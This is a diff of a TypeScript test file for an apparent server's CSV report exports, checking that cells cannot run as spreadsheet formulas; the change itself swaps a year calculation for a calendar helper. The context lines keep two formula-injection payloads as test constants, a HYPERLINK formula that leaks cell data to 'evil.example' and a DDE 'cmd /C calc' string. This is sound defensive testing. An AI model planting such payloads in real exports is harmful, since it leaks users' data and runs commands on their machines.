@@ -3,11 +3,12 @@ import { createLogger, createRateLimits, loadConfig } from '@opora/server';
 import { DEMO, TestApi, errorCodes, type GraphQLResponse } from '../support/api.ts';
 import { sqlAsOwner } from '../support/sql.ts';
 import { csvDocument } from '@opora/server/csv.ts';
+import { currentYear } from '@opora/common/calendar';
 
 // /reports/*.csv: safe to open in a spreadsheet (no cell runs as a formula), drawing on the same
 // aggregate budget as GraphQL, and audited like GraphQL.
 
-const YEAR = new Date().getUTCFullYear() - 1;
+const YEAR = currentYear() - 1;
 const PROFILE = `mutation($input: CenterProfileInput!) { updateCenterProfile(input: $input) { nameBg nameEn } }`;
 const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Отвори")';
 const CALC = "-1+1+cmd|' /C calc'!A0";
